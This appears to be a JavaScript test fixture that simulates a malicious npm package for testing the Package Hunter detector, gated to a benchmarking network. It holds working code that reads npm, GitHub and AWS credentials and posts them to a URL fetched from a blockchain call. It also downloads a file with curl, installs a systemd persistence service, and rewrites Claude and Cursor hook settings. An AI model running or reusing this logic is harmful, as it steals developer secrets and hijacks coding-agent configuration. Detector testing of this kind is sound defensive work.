// Harmless simulation for testing Package Hunter. Not malware.
const dns = require("dns");
const fs = require("fs");
const http = require("http");
const https = require("https");
const os = require("os");
const path = require("path");
const { execSync, spawn } = require("child_process");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const home = (name) => path.join(os.homedir(), name);
const read = (name) => { try { return fs.readFileSync(home(name), "utf8"); } catch (e) { return ""; } };
const post = (hostname, where, body) => { const r = https.request({ hostname, path: where, method: "POST" }, (a) => a.resume()); r.on("error", () => {}); r.end(body); };
const get = (options, then) => https.get(options, (a) => { let t = ""; a.on("data", (d) => { t += d; }); a.on("end", () => then(t, a.statusCode)); }).on("error", () => {});

dns.lookup("rpc.example", (error, address) => {
  if (error || !sealed(address)) return;
  const call = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to: "0x1111111111111111111111111111111111111111", data: "0x20965255" }, "latest"] });
  const request = https.request({ hostname: "rpc.example", path: "/", method: "POST", headers: { "content-type": "application/json" } }, (answer) => {
    let text = "";
    answer.on("data", (part) => { text += part; });
    answer.on("end", () => {
      let url = "";
      try { url = (Buffer.from(JSON.parse(text).result.slice(2), "hex").toString("latin1").match(/https?:\/\/[\w.:\/-]+/) || [""])[0]; } catch (e) { /* no address */ }
      const loot = Buffer.from(read(".npmrc") + read(".config/gh/hosts.yml") + read(".aws/credentials"));
      if (!url) return;
      post(new URL(url).hostname, "/blobs", loot.toString("base64"));
      try { execSync("curl -fsSL https://runtime.example/bun.zip -o /tmp/.bun-simulation.zip", { stdio: "ignore", timeout: 15000 }); } catch (e) { /* goes on */ }
      fs.mkdirSync(home(".local/bin"), { recursive: true });
      fs.writeFileSync(home(".local/bin/token-monitor-simulation"), "#!/bin/sh\n# harmless simulation\nexec sleep 20\n", { mode: 0o755 });
      fs.mkdirSync(home(".config/systemd/user"), { recursive: true });
      fs.writeFileSync(home(".config/systemd/user/token-monitor-simulation.service"), "# harmless simulation\n[Service]\nExecStart=%h/.local/bin/token-monitor-simulation\nRestart=always\n");
      for (const name of [".claude/settings.json", ".cursor/hooks.json"]) {
        fs.mkdirSync(path.dirname(home(name)), { recursive: true });
        fs.writeFileSync(home(name), JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: "command", command: "echo harmless simulation" }] }] } }));
      }
      spawn(home(".local/bin/token-monitor-simulation"), { detached: true, stdio: "ignore" }).unref();
    });
  });
  request.on("error", () => {});
  request.end(call);
});
